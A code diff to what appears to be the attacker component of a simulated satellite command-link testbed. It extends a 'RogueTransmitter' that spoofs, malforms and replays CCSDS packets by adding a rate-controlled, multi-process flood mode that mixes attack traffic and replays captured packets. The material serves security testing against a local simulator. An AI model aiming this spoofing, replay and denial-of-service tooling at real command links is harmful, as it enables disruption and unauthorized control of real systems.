@@ -3,9 +3,21 @@
 from __future__ import annotations
 
 import argparse
+import json
 import os
 import socket
-
+import sys
+from collections.abc import Sequence
+from types import TracebackType
+
+from attacker.flood import (
+    DEFAULT_POOL_SIZE,
+    DEFAULT_UNAUTHORIZED_ID,
+    FloodMix,
+    FloodPlan,
+    FloodReport,
+    run_flood,
+)
 from ccsds.packet_builder import CCSDSPacketBuilder
 
 DEFAULT_ENDPOINT: tuple[str, int] = ("127.0.0.1", 5000)
@@ -17,11 +29,32 @@ class RogueTransmitter:
     def __init__(self, endpoint: tuple[str, int]) -> None:
         """Store the configured target endpoint for packet transmission."""
         self.endpoint = endpoint
+        self._socket: socket.socket | None = None
+
+    def __enter__(self) -> RogueTransmitter:
+        """Return the transmitter for use as a context manager."""
+        return self
+
+    def __exit__(
+        self,
+        exc_type: type[BaseException] | None,
+        exc: BaseException | None,
+        traceback: TracebackType | None,
+    ) -> None:
+        """Close the transmit socket when leaving the context."""
+        self.close()
 
     def send_raw(self, payload: bytes) -> None:
         """Send the provided bytes directly to the configured endpoint."""
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-            sock.sendto(payload, self.endpoint)
+        if self._socket is None:
+            self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._socket.sendto(payload, self.endpoint)
+
+    def close(self) -> None:
+        """Close the transmit socket, if one is open."""
+        if self._socket is not None:
+            self._socket.close()
+            self._socket = None
 
     def spoof_command(self, command: str, ground_id: str) -> None:
         """Send a structurally valid packet with an incorrect HMAC key."""
@@ -39,8 +72,49 @@ class RogueTransmitter:
         """Replay a captured packet byte-for-byte."""
         self.send_raw(packet)
 
-
-def parse_args() -> argparse.Namespace:
+    def flood(
+        self,
+        mix: FloodMix,
+        *,
+        rate: float | None,
+        duration: float,
+        processes: int = 1,
+        ground_id: str = "GS-ALPHA",
+        unauthorized_id: str = DEFAULT_UNAUTHORIZED_ID,
+        replay_packets: tuple[bytes, ...] = (),
+        pool_size: int = DEFAULT_POOL_SIZE,
+    ) -> FloodReport:
+        """
+        Send a weighted mix of attack packets at ``rate`` packets/s for ``duration`` seconds.
+
+        Packets are generated before sending starts and cycled from memory; the rate is
+        split evenly across ``processes`` senders, each with its own socket.
+        """
+        plan = FloodPlan(
+            endpoint=self.endpoint,
+            mix=mix,
+            rate=rate,
+            duration=duration,
+            pool_size=pool_size,
+            ground_id=ground_id,
+            unauthorized_id=unauthorized_id,
+            replay_packets=replay_packets,
+        )
+        return run_flood(plan, processes)
+
+
+def load_replay_packets(hex_packets: list[str], capture_path: str | None) -> tuple[bytes, ...]:
+    """Collect replay packets from hex strings and the accepted packets of a capture."""
+    packets = [bytes.fromhex(packet_hex) for packet_hex in hex_packets]
+    if capture_path:
+        from capture.reader import CaptureReader
+
+        with CaptureReader(capture_path) as reader:
+            packets.extend(record.packet for record in reader if record.accepted)
+    return tuple(packets)
+
+
+def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
     """Return parsed CLI arguments for executing rogue transmissions."""
     parser = argparse.ArgumentParser(description="Attempt to spoof the satellite bus")
     parser.add_argument("--host", default=DEFAULT_ENDPOINT[0], help="Satellite IP address")
@@ -58,20 +132,66 @@ def parse_args() -> argparse.Namespace:
     )
     replay.add_argument("packet_hex", help="Hex string representing a full packet")
 
-    return parser.parse_args()
+    flood = subparsers.add_parser("flood", help="Send a rate-controlled mix of attack traffic")
+    flood.add_argument(
+        "--rate", type=float, default=None, help="Total packets per second (default: unpaced)"
+    )
+    flood.add_argument("--duration", type=float, default=10.0, help="Seconds to transmit")
+    flood.add_argument(
+        "--mix",
+        type=FloodMix.parse,
+        default=FloodMix(),
+        help="Weighted attack mix, e.g. 'spoof=4,malformed=3,replay=2,unauthorized=1'",
+    )
+    flood.add_argument("--processes", type=int, default=1, help="Parallel sender processes")
+    flood.add_argument("--ground-id", default="GS-ALPHA", help="Ground ID to impersonate")
+    flood.add_argument(
+        "--unauthorized-id",
+        default=DEFAULT_UNAUTHORIZED_ID,
+        help="Ground ID used for unauthorized-ID packets",
+    )
+    flood.add_argument(
+        "--replay-hex", action="append", default=[], help="Hex packet to replay (repeatable)"
+    )
+    flood.add_argument(
+        "--replay-capture", default=None, help="Replay accepted packets from a capture file"
+    )
+    flood.add_argument(
+        "--pool-size",
+        type=int,
+        default=DEFAULT_POOL_SIZE,
+        help="Packets pre-generated per process and cycled while sending",
+    )
+
+    return parser.parse_args(argv)
 
 
-def main() -> None:
+def main(argv: Sequence[str] | None = None) -> None:
     """Entry point for launching rogue transmission modes."""
-    args = parse_args()
-    transmitter = RogueTransmitter(endpoint=(args.host, args.port))
-
-    if args.mode == "spoof":
-        transmitter.spoof_command(args.command, args.ground_id)
-    elif args.mode == "malformed":
-        transmitter.send_malformed()
-    elif args.mode == "replay":
-        transmitter.replay(bytes.fromhex(args.packet_hex))
+    args = parse_args(argv)
+    with RogueTransmitter(endpoint=(args.host, args.port)) as transmitter:
+        if args.mode == "spoof":
+            transmitter.spoof_command(args.command, args.ground_id)
+        elif args.mode == "malformed":
+            transmitter.send_malformed()
+        elif args.mode == "replay":
+            transmitter.replay(bytes.fromhex(args.packet_hex))
+        elif args.mode == "flood":
+            replay_packets = load_replay_packets(args.replay_hex, args.replay_capture)
+            if args.mix.replay and not replay_packets:
+                raise SystemExit("flood: replay traffic needs --replay-hex or --replay-capture")
+            report = transmitter.flood(
+                args.mix,
+                rate=args.rate,
+                duration=args.duration,
+                processes=args.processes,
+                ground_id=args.ground_id,
+                unauthorized_id=args.unauthorized_id,
+                replay_packets=replay_packets,
+                pool_size=args.pool_size,
+            )
+            json.dump(report.to_dict(), sys.stdout, indent=2)
+            sys.stdout.write("\n")
 
 
 if __name__ == "__main__":